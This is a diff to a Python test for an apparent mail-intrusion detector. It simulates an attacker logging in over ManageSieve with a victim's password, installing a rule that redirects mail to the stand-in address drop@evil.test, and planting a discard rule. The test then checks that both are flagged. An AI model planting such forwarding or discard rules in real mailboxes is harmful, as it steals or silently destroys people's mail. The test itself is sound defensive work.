@@ -141,11 +141,13 @@ def test_a_rule_planted_over_managesieve_is_seen_within_seconds(stack: Stack) ->
     forwarded, thrown_away = stack.new_boxes("t23", 2)
     stack.plant(forwarded, 'require "fileinto";\r\nfileinto "x";\r\n', source=HOME)
     # The script that runs is overwritten in place: PUTSCRIPT alone, nothing is activated.
-    session = SieveSession(stack.places.sieve, client_address=ABROAD)
+    # Two addresses that guessed nobody's password before: else the login alone would be enough for a decision.
+    intruders = stack.stranger(), stack.stranger()
+    session = SieveSession(stack.places.sieve, client_address=intruders[0])
     assert session.login(forwarded.address, forwarded.password).accepted
     assert session.put_script("rules", 'redirect "drop@evil.test";\r\n').accepted
     session.close()
-    stack.plant(thrown_away, "discard;\r\n", source=ABROAD)
+    stack.plant(thrown_away, "discard;\r\n", source=intruders[1])
     for box, sign in ((forwarded, "forward_rule"), (thrown_away, "discard_rule")):
         assert wait_until(lambda box=box: decided(stack, box) > 0, 5, pause=0.2) is not None, f"{sign} was not seen"
         assert sign in {found["name"] for found in stack.incident(box)["indicators"]}
